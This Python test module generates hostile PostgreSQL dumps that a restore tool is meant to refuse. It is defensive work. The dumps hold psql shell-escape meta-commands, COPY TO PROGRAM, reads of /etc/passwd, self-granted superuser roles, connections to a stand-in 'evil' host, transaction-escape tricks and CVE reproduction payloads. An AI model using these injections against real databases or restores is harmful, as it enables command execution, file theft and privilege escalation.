r"""Dumps that were made to harm whoever restores them: each must be refused, with nothing run and nothing kept.

They are generated: every command of psql in every place where psql would see one, the three CVEs, ways to end the transaction or to
reach beyond the database, and ways to make a reader believe that a quote, a comment or the rows go on.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

from tests.dumping import plain_dump, trigger

# psql's own list (\?) of versions 15 to 18, and what its manual names beside it.
COMMANDS = (
    "! touch {canary}", "? commands", "a", "bind 1", "bind_named x 1", "c template1", "cd /tmp", "C title",
    "close_prepared x", "connect template1", "conninfo", "copy t TO PROGRAM 'touch {canary}'", "copyright",
    "crosstabview", "d", "da", "dA", "db", "dc", "dC", "dconfig", "dd", "dD", "ddp", "dE", "des", "det", "deu", "dew",
    "df", "dF", "dFd", "dFp", "dFt", "dg", "di", "dl", "dL", "dm", "dn", "do", "dO", "dp", "dP", "drds", "drg", "dRp",
    "dRs", "ds", "dS", "dt", "dT", "du", "dv", "dx", "dX", "dy", "e /etc/passwd", "echo `touch {canary}`", "ef",
    "elif true", "else", "encoding SJIS", "endif", "endpipeline", "errverbose", "ev", "f |", "flush", "flushrequest",
    "g |touch {canary}", "gdesc", "getenv x HOME", "gexec", "getresults", "gset", "gx", "h", "H", "html",
    "i /etc/passwd", "if true", "include /etc/passwd", "include_relative x", "ir x", "l", "list",
    "lo_export 1 {canary}", "lo_import /etc/passwd", "lo_list", "lo_unlink 1", "o |touch {canary}", "out {canary}",
    "p", "parse x", "password", "print", "prompt x", "pset pager 'touch {canary}'", "q", "qecho x", "quit", "r",
    "reset", "restrict `touch {canary}`", "s {canary}", "sendpipeline", "set x `touch {canary}`",
    "setenv PAGER touch", "sf x", "startpipeline", "sv x", "syncpipeline", "t", "T x", "timing",
    "unrestrict `touch {canary}`", "unrestrict", "unset x", "w |touch {canary}", "warn x", "watch 1",
    "write {canary}", "x", "z", "; SELECT 1", ":", "\\ SELECT 1", ".", "restrict abc123", "restrict abc-123",
    "restrict 'abc123'", "unrestrict abc12",
)  # fmt: skip

# Where a command is one: {} is replaced by a backslash and the command.
PLACES = (
    "{}",
    "  \t{}",
    "SELECT pg_catalog.setval('public.s', 1, true); {}",
    "CREATE TABLE x (a int {}\n);",
    "CREATE TABLE x (a text DEFAULT 'it''s' {}\n);",
    "CREATE TABLE x (a text DEFAULT E'\\'' {}\n);",
    "CREATE TABLE x (a text DEFAULT '\\' {}\n);",
    "CREATE TABLE x (a text DEFAULT E'\\\\'\n'\\'' {}\n);",
    "CREATE TABLE x (a text DEFAULT $$'$$ {}\n);",
    "CREATE TABLE x (a text DEFAULT $a$ $b$ $a$ {}\n);",
    "CREATE TABLE x (a text DEFAULT $a1$ $a1$ {}\n);",
    "CREATE TABLE x$a$ (a text, b$a$ {}\n);",
    'CREATE TABLE "x""\\" (a int {}\n);',
    "CREATE TABLE x /* ' \" $$ /* */ */ {}\n(a int);",
    "/* -- */ {}",
    "/* '*/ {}",
    "-- Name: x\r{}",
    "-- Name: x\n{}; Type: TABLE",
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; {}\nEND;",
    "CREATE RULE r AS ON INSERT TO t DO (SELECT 1; {}\n);",
    "COPY public.t (a) FROM stdin;\n1\n\\.\n{}",
    "COPY public.t (a) FROM stdin; {}\n1\n\\.\n",
)

_REACHING_OUT = {
    "copy to program": "COPY public.t TO PROGRAM 'touch {canary}';",
    "copy from program": "COPY public.t FROM PROGRAM 'touch {canary}';",
    "copy from program with rows": "COPY public.t (a) FROM PROGRAM 'touch {canary}';\n1\n\\.",
    "copy to file": "COPY public.t TO '{canary}';",
    "copy from file": "COPY public.t (a) FROM '/etc/passwd';",
    "copy query": "COPY (SELECT 1) TO '{canary}';",
    "copy in lower case": "copy public.t to program 'touch {canary}';",
    "copy behind a comment": "/**/COPY/**/public.t TO PROGRAM 'touch {canary}';",
    "copy with options": "COPY public.t (a) FROM stdin WITH (FORMAT csv);\n1\n\\.",
    "copy of a hidden program": "COPY public.\"t (a) FROM stdin\" TO PROGRAM 'touch {canary}';",
    "alter system": "ALTER SYSTEM SET archive_command = 'touch {canary}';",
    "alter system behind a comment": "ALTER /* */ SYSTEM SET archive_command = 'touch {canary}';",
    "alter role": "ALTER ROLE CURRENT_USER SUPERUSER;",
    "create role": "CREATE ROLE evil SUPERUSER LOGIN;",
    "create user": "CREATE USER evil;",
    "drop role": "DROP ROLE evil;",
    "grant of a role": "GRANT pg_execute_server_program TO PUBLIC;",
    "do": "DO $$ BEGIN EXECUTE 'COPY public.t TO PROGRAM ''touch {canary}'''; END $$;",
    "call": "CALL public.p();",
    "load": "LOAD '/tmp/x.so';",
    "select": "SELECT pg_catalog.pg_read_file('/etc/passwd');",
    "select of a file": "SELECT pg_catalog.lo_import('/etc/passwd');",
    "select into a file": "SELECT pg_catalog.lo_export(1, '{canary}');",
    "setval of a query": "SELECT pg_catalog.setval((SELECT pg_catalog.pg_read_file('/etc/passwd')), 1, true);",
    "settings by function": "SELECT pg_catalog.set_config('standard_conforming_strings', 'off', false);",
    "setting": "SET session_replication_role = replica;",
    "setting with a hook": "SET local_preload_libraries = 'x';",
    "role": "SET ROLE postgres;",
    "authorization": "SET SESSION AUTHORIZATION postgres;\nCREATE TABLE public.y (a int);",
    "explain": "EXPLAIN ANALYZE SELECT pg_catalog.pg_read_file('/etc/passwd');",
    "with": "WITH x AS (SELECT 1) SELECT * FROM x;",
    "values": "VALUES (1);",
    "prepare": "PREPARE x AS SELECT 1;",
    "execute": "EXECUTE x;",
    "declare": "DECLARE c CURSOR FOR SELECT 1;",
    "listen": "LISTEN x;",
    "notify": "NOTIFY x;",
    "lock": "LOCK TABLE public.t;",
    "discard": "DISCARD ALL;",
    "vacuum": "VACUUM FULL;",
    "reset": "RESET ALL;",
    "update": "UPDATE pg_catalog.pg_authid SET rolsuper = true;",
    "delete": "DELETE FROM public.t;",
    "truncate": "TRUNCATE public.t;",
    "merge": "MERGE INTO public.t USING public.t AS o ON true WHEN MATCHED THEN DO NOTHING;",
    "import": "IMPORT FOREIGN SCHEMA x FROM SERVER y INTO public;",
    "drop owned": "DROP OWNED BY CURRENT_USER;",
    "reassign owned": "REASSIGN OWNED BY CURRENT_USER TO PUBLIC;",
    "tablespace": "CREATE TABLESPACE x LOCATION '/tmp';",
    "extension of files": "CREATE EXTENSION IF NOT EXISTS file_fdw WITH SCHEMA public;",
    "untrusted language": 'CREATE EXTENSION "plpython3u";',
    "subscription": "CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p;",
    "subscription enabled": "ALTER SUBSCRIPTION s ENABLE;",
    "table of a query": "CREATE TABLE public.x AS SELECT pg_catalog.pg_read_file('/etc/passwd');",
    "table of a query with names": "CREATE TABLE public.x (a) AS SELECT pg_catalog.pg_read_file('/etc/passwd');",
    "table of a query behind a comment": "CREATE TABLE public.x(a)/*(*/AS/*)*/TABLE public.t;",
    "table of a query with options": "CREATE UNLOGGED TABLE public.x (a) WITH (fillfactor=50) TABLESPACE pg_default as SELECT 1;",
    "table of a query behind a backslash": "CREATE TABLE public.x (\"a'(\") AS SELECT '\\' AS a;",
    "table of a query behind another": "SET standard_conforming_strings = off;\n"
    "CREATE TABLE public.x (a) WITH (user_catalog_table='\\'') AS SELECT 1; --');",
    "table that executes": "CREATE TABLE public.x AS EXECUTE y;",
    "table if there is none": "CREATE TABLE IF NOT EXISTS public.x AS SELECT 1;",
    "bound of a partition": "CREATE TABLE public.p (a text) PARTITION BY LIST (a);\n"
    "CREATE TABLE public.x PARTITION OF public.p FOR VALUES IN (pg_catalog.pg_read_file('/etc/passwd'));",
    "bound of a partition to attach": "CREATE TABLE public.p (a text) PARTITION BY LIST (a);\n"
    "ALTER TABLE ONLY public.p ATTACH PARTITION public.t FOR VALUES IN (pg_catalog.pg_read_file('/etc/passwd'));",
    "view with data": "CREATE MATERIALIZED VIEW public.x AS SELECT pg_catalog.pg_read_file('/etc/passwd');",
    "view with data by name": 'CREATE MATERIALIZED VIEW public.x AS\n SELECT 1 AS "WITH NO DATA"\n  WITH DATA;',
    "schema with a view": "CREATE SCHEMA x CREATE VIEW y AS SELECT 1;",
    "schema of somebody": "CREATE SCHEMA AUTHORIZATION CURRENT_USER;",
    "insert of a query": "INSERT INTO public.t SELECT pg_catalog.pg_read_file('/etc/passwd');",
    "insert of a query into columns": "INSERT INTO public.t (a) SELECT pg_catalog.pg_read_file('/etc/passwd');",
    "insert of a query in parentheses": "INSERT INTO public.t (SELECT 'x');",
    "insert of a call": "INSERT INTO public.t VALUES (pg_catalog.pg_read_file('/etc/passwd'));",
    "insert of a call behind values": "INSERT INTO public.t VALUES ('a'),\n('b' || pg_catalog.version());",
    "insert that returns": "INSERT INTO public.t VALUES ('a') RETURNING pg_catalog.version();",
    "insert that updates": "CREATE UNIQUE INDEX i ON public.t USING btree (a);\n"
    "INSERT INTO public.t VALUES ('a') ON CONFLICT (a) DO UPDATE SET a = pg_catalog.version();",
    "insert behind a backslash": "SET standard_conforming_strings = off;\n"
    "INSERT INTO public.t VALUES ('\\'' || pg_catalog.version() || '\\'');",
    "new type by a call": "ALTER TABLE public.t ALTER COLUMN a TYPE text USING pg_catalog.version();",
    "new type behind another action": "ALTER TABLE ONLY public.t\n    ADD CONSTRAINT c CHECK ((a <> ARRAY['(', '['][1])), "
    "ALTER COLUMN a TYPE text USING pg_catalog.version();",
    "new type and an owner": "ALTER TABLE public.t ALTER COLUMN a TYPE text USING pg_catalog.version(), OWNER TO CURRENT_USER;",
    "new column by a call": "ALTER TABLE public.t ADD COLUMN b text DEFAULT pg_catalog.pg_read_file('/etc/passwd');",
    "new column without the word": 'ALTER TABLE public.t ADD "CONSTRAINT b" text DEFAULT pg_catalog.version();',
    "database": "\\connect template1\nDROP DATABASE postgres;",
}
_TRANSACTION = {
    "commit": "COMMIT;", "rollback": "ROLLBACK;", "abort": "ABORT;", "end": "END;",
    "begin": "BEGIN;\nCREATE TABLE public.y (a int);\nCOMMIT;", "start": "START TRANSACTION;",
    "savepoint": "SAVEPOINT x;", "release": "RELEASE SAVEPOINT x;", "prepared": "PREPARE TRANSACTION 'x';",
    "commit and chain": "COMMIT AND CHAIN;", "commit work": "COMMIT WORK;", "lower case": "commit;",
    "two begins": "BEGIN;\nBEGIN;\nCOMMIT;", "begin without an end": "BEGIN;\n",
    "large objects outside": "SELECT pg_catalog.lo_open('1', 131072);",
    "hidden in a body": "CREATE FUNCTION public.f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1 case; END; COMMIT;",
    "hidden behind a type": "CREATE FUNCTION public.f(begin atomic) RETURNS int LANGUAGE sql AS 'SELECT 1'; COMMIT; SELECT 1; END;",
    "hidden in a rule": "CREATE RULE r AS ON INSERT TO public.t DO (SELECT 1); COMMIT;",
    "hidden by escapes": "CREATE TABLE public.y (a text DEFAULT '\\'); COMMIT; --');",
    "hidden behind a dollar": "CREATE TABLE public.y (a text DEFAULT $a$b$a$); COMMIT;",
    "rolled back to ours": "ROLLBACK TO SAVEPOINT dumped;",
}  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """A dump, and what is wrong with it."""

    name: str
    content: bytes


def hostile_dumps(canary: Path) -> Iterator[Hostile]:
    """All of them; a file `canary` that is there afterwards was made by one."""
    for name, text in {**_REACHING_OUT, **_TRANSACTION}.items():
        yield Hostile(name, _dump(text.replace("{canary}", str(canary))))
    yield from _frames(canary)
    yield from _vulnerabilities(canary)
    for place in PLACES:
        for command in COMMANDS:
            yield Hostile(f"{command} at {place!r}", _commanding(place, command, canary))


def _dump(*statements: str) -> bytes:
    table = "CREATE TABLE public.t (a text);\nCREATE SEQUENCE public.s;"
    return plain_dump(table, *statements, "CREATE TABLE public.after (a int);")


def _commanding(place: str, command: str, canary: Path) -> bytes:
    return _dump(place.replace("{}", "\\" + command.replace("{canary}", str(canary))))


def _vulnerabilities(canary: Path) -> Iterator[Hostile]:
    run = f"touch {canary}"
    yield Hostile("CVE-2025-8714", _dump(f"COMMENT ON TABLE public.t IS 'x';\n\\! {run}"))
    yield Hostile("CVE-2025-8715", _dump(f"--\n-- Name: a\n\\! {run}\n-- ; Type: TABLE; Schema: public\n--"))
    yield Hostile(
        "CVE-2025-8715 by SQL", _dump("--\n-- Name: a\nALTER ROLE CURRENT_USER SUPERUSER;\n-- ; Type: TABLE\n--")
    )
    yield Hostile("CVE-2026-18408", _dump(f"\\unrestrict `{run}`"))
    yield Hostile("CVE-2026-18408 with the key", _dump(f"\\unrestrict abc123`{run}`"))


def _frames(canary: Path) -> Iterator[Hostile]:
    whole = _dump().decode()
    end = "\\unrestrict abc123\n"
    yield Hostile("no first line", whole.replace("-- PostgreSQL database dump\n", "", 1).encode())
    yield Hostile("other key", whole.replace(end, "\\unrestrict abc124\n").encode())
    yield Hostile("no unrestrict", whole.replace(end, "").encode())
    yield Hostile("unrestrict twice", (whole + end).encode())
    yield Hostile("restrict twice", whole.replace("\\restrict abc123\n", "\\restrict abc123\n" * 2).encode())
    yield Hostile("no restrict", whole.replace("\\restrict abc123\n", "").encode())
    yield Hostile("unrestrict too early", _dump(end).replace(b"complete", b"completed"))
    yield Hostile("command behind the end", (whole + f"\\! touch {canary}\n").encode())
    yield Hostile("statement behind the end", (whole + "CREATE TABLE public.y (a int);\n").encode())
    yield Hostile("two dumps", (whole + whole.replace("public.", "public.b")).encode())
    yield Hostile("last line in the middle", _dump("--\n-- PostgreSQL database dump complete\n--"))
    yield Hostile(
        "last line in quotes",
        plain_dump("COMMENT ON SCHEMA public IS '\n--\n-- PostgreSQL database dump complete\n--\n';", trailer=False),
    )
    yield Hostile(
        "last line in a block comment", plain_dump("/*\n-- PostgreSQL database dump complete\n--\n*/", trailer=False)
    )
    yield Hostile(
        "last line among rows",
        plain_dump(
            "CREATE TABLE public.t (a text);\nCOPY public.t (a) FROM stdin;\n-- PostgreSQL database dump complete\n--\n",
            trailer=False,
        ),
    )
    yield Hostile("rows without an end", _dump("COPY public.t (a) FROM stdin;\n1\n"))
    yield Hostile("end of rows with a blank", _dump("COPY public.t (a) FROM stdin;\n1\n\\. \nSELECT 1;"))
    yield Hostile("zero byte", _dump("COMMENT ON TABLE public.t IS 'a\0b';"))
    yield Hostile("other encoding", _dump("SET client_encoding = 'SJIS';"))
    yield Hostile("open quote", _dump("COMMENT ON TABLE public.t IS 'a;"))
    yield Hostile("open comment", _dump("/* "))
    yield Hostile("open dollar quote", _dump("COMMENT ON TABLE public.t IS $a$;"))
    yield Hostile("two connects", _dump("\\unrestrict abc123\n\\connect a\n\\connect b\n\\restrict abc123"))
    yield Hostile(
        "connect with a command",
        plain_dump("CREATE DATABASE a;\n\\unrestrict abc123\n\\connect `touch x`\n\\restrict abc123"),
    )
    yield Hostile(
        "connect elsewhere",
        plain_dump("CREATE DATABASE a;\n\\unrestrict abc123\n\\connect a b evil.host\n\\restrict abc123"),
    )
    yield Hostile("cluster", b"--\n-- PostgreSQL database cluster dump\n--\n" + whole.encode())
    yield Hostile("empty", b"")
    yield Hostile("own transaction in a trigger", _dump(
        trigger("COMMIT;"),
        "COPY public.t (a) FROM stdin;\n1\n\\.",
    ))  # fmt: skip
    yield Hostile("strings changed by a waiting insert", _dump(
        trigger("SET standard_conforming_strings = off;"),
        "INSERT INTO public.t VALUES ('1');\nCOMMENT ON TABLE public.t IS '\\'; COMMIT; --';",
    ))  # fmt: skip
